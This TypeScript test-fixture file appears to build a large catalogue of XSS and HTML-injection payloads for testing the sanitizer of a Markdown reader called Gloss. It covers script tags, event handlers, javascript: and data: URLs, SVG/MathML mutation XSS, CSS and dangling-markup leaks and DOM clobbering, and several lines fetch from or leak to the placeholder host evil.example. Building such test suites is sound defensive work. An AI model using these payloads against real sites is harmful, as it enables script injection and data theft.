/**
 * Hostile Markdown and HTML for the renderer and the exports: markup that
 * tries to run script, leave the app, fetch from the network, restyle the
 * page or swallow the text after it. Written for Gloss (the classes of
 * vector follow the public XSS cheat sheets and DOMPurify's own test
 * vectors; the strings are ours).
 *
 * Every payload that could run code calls `__pwned(<its number>)`: the tests
 * define that function and count the calls, so a payload that runs names
 * itself. Dialogs (alert), console markers and navigation are caught as well.
 */

export interface Payload {
  /** 1-based, stable: what `__pwned` receives. */
  id: number;
  category: PayloadCategory;
  source: string;
  /**
   * The HTML parser takes everything after it as part of itself (an unclosed
   * comment, <plaintext>, <noembed>, <iframe name="…, a form/math nesting),
   * and the sanitizer then removes it: nothing runs, the text is still in the
   * file (the editor shows it), but the reader does not show what follows.
   * Marked so that a change either way is noticed.
   */
  hidesFollowingText: boolean;
}

export type PayloadCategory =
  | 'script element'
  | 'event handler'
  | 'url scheme'
  | 'autolink'
  | 'svg and mathml'
  | 'css injection'
  | 'dangling markup'
  | 'embedding and forms'
  | 'markdown syntax'
  | 'dom clobbering'
  | 'unicode';

/** Stands for the code a payload would run; replaced by `__pwned(<id>)`. */
const RUN = '$RUN';

/** Schemes that would run code or load a page if a link or image kept them, written the ways filters miss. */
const hostileSchemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;&#x76;&#x61;script:${RUN}`,
  `&#0000106&#0000097vascript:${RUN}`,
  `java&#x09;script:${RUN}`,
  `java&#x0A;script:${RUN}`,
  `jav&#x0D;ascript:${RUN}`,
  `%6Aavascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `DATA:text/html,<img src=x onerror=${RUN}>`,
];

/** Where a URL can sit in Markdown or HTML. `URL` is replaced by the scheme. */
const urlContexts: [string, string][] = [
  ['markdown link', '[open the link](<URL>)'],
  ['markdown image', '![a picture](<URL>)'],
  ['reference link', '[the reference][ref-ID]\n\n[ref-ID]: <URL>'],
  ['html link', '<a href="URL">open the html link</a>'],
];

/** A few more places only the worst schemes are tried in. */
const rareUrlContexts = [
  '<img src="URL" alt="html image">',
  '<svg><a xlink:href="URL"><text x="10" y="20">svg link</text></a></svg>',
  '<form action="URL"><input type="submit" value="send"></form>',
  '<math><mi xlink:href="URL">math link</mi></math>',
  '<iframe src="URL"></iframe>',
];

/** What follows is hidden (see Payload.hidesFollowingText). */
const hides = true;

const handwritten: [PayloadCategory, string, boolean?][] = [
  // Script elements, whole, split, hidden in other elements.
  ['script element', `<script>${RUN}</script>`],
  ['script element', `<SCRIPT>${RUN}</SCRIPT>`],
  ['script element', `<script src="https://evil.example/x.js"></script>`],
  ['script element', `<script src="data:text/javascript,${RUN}"></script>`],
  ['script element', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['script element', `<<script>${RUN};//<</script>`],
  ['script element', `<script type="module">${RUN}</script>`],
  ['script element', `<script\n>${RUN}</script\n>`],
  ['script element', `<template><script>${RUN}</script></template>`],
  ['script element', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`],
  ['script element', `<xmp><script>${RUN}</script></xmp>`],
  ['script element', `<script>/*</script><script>*/${RUN}</script>`],
  ['script element', `<div><script>${RUN}</script></div> text around a script`],
  ['script element', `<p>paragraph <script>${RUN}</script> with a script inside</p>`],
  // Event handlers on every kind of element, written every way parsers accept.
  ['event handler', `<img src=x onerror=${RUN}>`],
  ['event handler', `<IMG SRC=x OnErRoR=${RUN}>`],
  ['event handler', `<img/src=x/onerror=${RUN}>`],
  ['event handler', `<img src=x\nonerror=${RUN}>`],
  ['event handler', `<img src=x onerror="&#x5f;&#x5f;pwned(0)">`],
  ['event handler', `<img src="x" onerror='${RUN}' alt="quoted handler">`],
  ['event handler', `<img src=x:x onerror=${RUN}//>`],
  ['event handler', `<body onload=${RUN}>`],
  ['event handler', `<svg onload=${RUN}>`],
  ['event handler', `<svg/onload=${RUN}>`],
  ['event handler', `<input autofocus onfocus=${RUN}>`],
  ['event handler', `<select autofocus onfocus=${RUN}></select>`],
  ['event handler', `<textarea autofocus onfocus=${RUN}></textarea>`],
  ['event handler', `<details open ontoggle=${RUN}><summary>details</summary></details>`],
  ['event handler', `<video><source onerror=${RUN}></video>`],
  ['event handler', `<audio src=x onerror=${RUN}></audio>`],
  ['event handler', `<marquee onstart=${RUN}>marquee</marquee>`],
  ['event handler', `<div onmouseover=${RUN}>hover me</div>`],
  ['event handler', `<a onclick=${RUN} href="#">click me</a>`],
  ['event handler', `<p onpointerenter=${RUN} onfocusin=${RUN} tabindex=0>pointer and focus</p>`],
  ['event handler', `<div style="animation:spin 1s" onanimationstart=${RUN}>animated</div>`],
  ['event handler', `<object data=x onerror=${RUN}></object>`],
  ['event handler', `<iframe onload=${RUN}></iframe>`],
  ['event handler', `<img src=x onerror=alert(1)>`],
  ['event handler', `<img src=x onerror=console.log('PWNED')>`],
  ['event handler', `<img src=x onerror=location='https://evil.example/'>`],
  ['event handler', `<img src=x onerror=fetch('https://evil.example/')>`],
  ['event handler', `<a href="#x" onfocus=${RUN} autofocus id=x>focused link</a>`],
  // Autolinks: CommonMark's, GFM's extended ones, and HTML-looking ones.
  ['autolink', `<javascript:${RUN}>`],
  ['autolink', `<JAVASCRIPT:${RUN}>`],
  ['autolink', `<vbscript:msgbox(1)>`],
  ['autolink', `<data:text/html,<script>${RUN}</script>>`],
  ['autolink', `<https://example.com/"onmouseover="${RUN}">`],
  ['autolink', `https://example.com/"><img src=x onerror=${RUN}>`],
  ['autolink', `www.example.com/<script>${RUN}</script>`],
  ['autolink', `<mailto:someone@example.com?subject=<script>${RUN}</script>>`],
  ['autolink', `javascript:${RUN} as bare text`],
  // SVG and MathML: foreign content, animation, namespace confusion (mXSS).
  ['svg and mathml', `<svg><script>${RUN}</script></svg>`],
  ['svg and mathml', `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`],
  ['svg and mathml', `<svg><set attributeName="onload" to="${RUN}"/></svg>`],
  [
    'svg and mathml',
    `<svg><a><rect width=50 height=20 /><animate attributeName=href values=javascript:${RUN} /><text y=15>animated link</text></a></svg>`,
  ],
  ['svg and mathml', `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`],
  [
    'svg and mathml',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  ],
  ['svg and mathml', `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`],
  ['svg and mathml', `<svg><style><img src=x onerror=${RUN}></style></svg>`],
  ['svg and mathml', `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`],
  ['svg and mathml', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, hides],
  ['svg and mathml', `<math><mi//xlink:href="data:x,<script>${RUN}</script>">math</mi></math>`],
  ['svg and mathml', `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">click<mtext>tip</mtext></maction></math>`],
  ['svg and mathml', `<svg><title><style><img src=x onerror=${RUN}></style></title></svg>`],
  ['svg and mathml', `<svg><desc><![CDATA[</desc><img src=x onerror=${RUN}>]]></desc></svg>`],
  ['svg and mathml', `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`],
  ['svg and mathml', `<svg><image href="https://evil.example/x.png"/></svg>`],
  // CSS: remote loads, page-covering overlays, old script-in-CSS tricks.
  ['css injection', `<style>body{display:none}</style>`],
  ['css injection', `<style>@import 'https://evil.example/x.css';</style>`],
  ['css injection', `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ['css injection', `<p style="background:url(https://evil.example/bg.png)">styled background</p>`],
  ['css injection', `<div style="position:fixed;inset:0;z-index:99999;background:#fff">a cover over the whole app</div>`],
  ['css injection', `<p style="width:expression(${RUN})">expression</p>`],
  ['css injection', `<p style="behavior:url(https://evil.example/x.htc)">behavior</p>`],
  ['css injection', `<p style="background-image:url('javascript:${RUN}')">javascript in css</p>`],
  ['css injection', `<svg><style>*{fill:url(https://evil.example/x.svg#f)}</style><rect width=10 height=10 /></svg>`],
  ['css injection', `<font face="x" style="font-family:x;src:url(https://evil.example/f.woff)">font</font>`],
  ['css injection', `<style>input[value^="a"]{background:url(https://evil.example/a)}</style>`],
  // Dangling markup: unclosed attributes and raw-text elements that would swallow what follows.
  ['dangling markup', `<img src='https://evil.example/?leak=`],
  ['dangling markup', `<a href="https://evil.example/?leak=`],
  ['dangling markup', `<base href="https://evil.example/">`],
  ['dangling markup', `<meta http-equiv="refresh" content="0;url=https://evil.example/">`],
  ['dangling markup', `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`],
  ['dangling markup', `<textarea>swallows the rest`],
  ['dangling markup', `<title>swallows the rest`],
  ['dangling markup', `<!-- an unclosed comment`, hides],
  ['dangling markup', `<plaintext>swallows the rest`, hides],
  ['dangling markup', `<noembed><img src=x onerror=${RUN}>`, hides],
  ['dangling markup', `<iframe name="leak`, hides],
  ['dangling markup', `<table background="https://evil.example/t.png"><tr><td>table</td></tr></table>`],
  ['dangling markup', `<div title="</div><img src=x onerror=${RUN}>">attribute that closes a div</div>`],
  // Embedding, frames, forms, and attributes that reach the network or another window.
  ['embedding and forms', `<iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  ['embedding and forms', `<iframe src="https://evil.example/"></iframe>`],
  ['embedding and forms', `<object data="javascript:${RUN}"></object>`],
  ['embedding and forms', `<embed src="javascript:${RUN}">`],
  ['embedding and forms', `<embed src="https://evil.example/x.swf">`],
  ['embedding and forms', `<form><button formaction="javascript:${RUN}">button</button></form>`],
  ['embedding and forms', `<isindex action="javascript:${RUN}" type="image">`],
  ['embedding and forms', `<input type="image" src="https://evil.example/i.png">`],
  ['embedding and forms', `<a href="https://example.com/" target="_blank" rel="opener">a new window with an opener</a>`],
  ['embedding and forms', `<a href="https://example.com/" ping="https://evil.example/ping">a link with a ping</a>`],
  ['embedding and forms', `<img srcset="https://evil.example/1x.png 1x, https://evil.example/2x.png 2x" alt="srcset">`],
  ['embedding and forms', `<picture><source srcset="https://evil.example/p.png"><img alt="picture"></picture>`],
  ['embedding and forms', `<video poster="https://evil.example/poster.png"></video>`],
  ['embedding and forms', `<portal src="https://evil.example/"></portal>`],
  ['embedding and forms', `<webview src="https://evil.example/"></webview>`],
  ['embedding and forms', `<frameset><frame src="javascript:${RUN}"></frameset>`],
  ['embedding and forms', `<applet code="x.class"></applet>`],
  ['embedding and forms', `<link rel="import" href="https://evil.example/x.html">`],
  ['embedding and forms', `<link rel="prefetch" href="https://evil.example/prefetch">`],
  // Markdown's own syntax carrying HTML or schemes.
  ['markdown syntax', `[a link](javascript:${RUN} "with a title")`],
  ['markdown syntax', `[a link](https://example.com "title\\" onmouseover=\\"${RUN}")`],
  ['markdown syntax', `![<img src=x onerror=${RUN}>](https://evil.example/x.png)`],
  ['markdown syntax', `![alt" onerror="${RUN}](x.png)`],
  ['markdown syntax', `[<img src=x onerror=${RUN}>](https://example.com/)`],
  ['markdown syntax', `[x](https://example.com/"><script>${RUN}</script>)`],
  ['markdown syntax', `\`<img src=x onerror=${RUN}>\` in a code span`],
  ['markdown syntax', `\`\`\`html\n<script>${RUN}</script>\n\`\`\``],
  ['markdown syntax', `    <script>${RUN}</script> in an indented code block`],
  ['markdown syntax', `# A heading <img src=x onerror=${RUN}>`],
  ['markdown syntax', `| a | b |\n| - | - |\n| <img src=x onerror=${RUN}> | <script>${RUN}</script> |`],
  ['markdown syntax', `- a list item <svg onload=${RUN}>\n- [ ] a task <img src=x onerror=${RUN}>`],
  ['markdown syntax', `> a quote <a href="javascript:${RUN}">quoted link</a>`],
  ['markdown syntax', `[nested [brackets](javascript:${RUN})](https://example.com/)`],
  ['markdown syntax', `[ref link][evil]\n\n[evil]: javascript:${RUN} "title"`],
  ['markdown syntax', `[collapsed][]\n\n[collapsed]: data:text/html,<script>${RUN}</script>`],
  ['markdown syntax', `[shortcut]\n\n[shortcut]: vbscript:msgbox(1)`],
  ['markdown syntax', `<div>\n\n*markdown inside html* <img src=x onerror=${RUN}>\n\n</div>`],
  ['markdown syntax', `**bold <img src=x onerror=${RUN}>** and _emphasis <svg onload=${RUN}>_`],
  ['markdown syntax', `~~struck <script>${RUN}</script>~~`],
  ['markdown syntax', `[a link](https://example.com/)<img src=x onerror=${RUN}>`],
  ['markdown syntax', `<a href="https://example.com/">html link</a> [md link](https://example.com/) <https://example.com/>`],
  // DOM clobbering: names and ids that would shadow what the page's code reads.
  ['dom clobbering', `<img name="getElementById" alt="clobber getElementById">`],
  ['dom clobbering', `<form name="body"><input name="appendChild"></form>`],
  ['dom clobbering', `<a id="gloss" href="https://example.com/">clobber window.gloss</a>`],
  ['dom clobbering', `<a id="__pwned" href="https://example.com/">clobber the marker</a>`],
  ['dom clobbering', `<img name="cookie" alt="clobber document.cookie">`],
  ['dom clobbering', `<div id="reader">a second reader</div><p id="document-note">a second note box</p>`],
  ['dom clobbering', `<a id="CSS" name="highlights">clobber CSS.highlights</a>`],
  // Unicode and control characters inside schemes and tags.
  ['unicode', `[zero width](java\u200Bscript:${RUN})`],
  ['unicode', `[fullwidth](ｊａｖａｓｃｒｉｐｔ:${RUN})`],
  ['unicode', `<a href="java\u0000script:${RUN}">nul in scheme</a>`],
  ['unicode', `<a href="\u0001javascript:${RUN}">control before scheme</a>`],
  ['unicode', `<a href=" \tjavascript:${RUN}">space and tab before scheme</a>`],
  ['unicode', `\u202Egnp.exe <a href="https://example.com/">right-to-left override</a>`],
  ['unicode', `<img src=x one\u0000rror=${RUN}>`],
  ['unicode', `<scr\u0000ipt>${RUN}</scr\u0000ipt>`],
  ['unicode', `＜script＞${RUN}＜/script＞`],
];

function build(): Payload[] {
  const sources: [PayloadCategory, string, boolean?][] = [];
  let reference = 0;
  for (const scheme of hostileSchemes) {
    for (const [, context] of urlContexts) {
      reference++;
      sources.push(['url scheme', context.replaceAll('ID', String(reference)).replace('URL', scheme)]);
    }
  }
  for (const scheme of hostileSchemes.slice(0, 3))
    for (const context of rareUrlContexts) sources.push(['url scheme', context.replace('URL', scheme)]);
  sources.push(...handwritten);
  return sources.map(([category, source, hidesFollowingText = false], index) => ({
    id: index + 1,
    category,
    source: source.replaceAll(RUN, `__pwned(${index + 1})`),
    hidesFollowingText,
  }));
}

export const payloads: readonly Payload[] = build();

/** Payloads that can be a tag as the app takes tags (no commas or line breaks, 1–100 characters). */
export function asTags(chosen: readonly Payload[]): string[] {
  return chosen
    .map((payload) => payload.source.trim())
    .filter((source) => source.length > 0 && source.length <= 100 && !/[\n\r\t,]/.test(source));
}

/** Words a reader must still see around each payload; a payload that swallows them has hidden text. */
export const before = (payload: Payload): string => `Payload ${payload.id} follows.`;
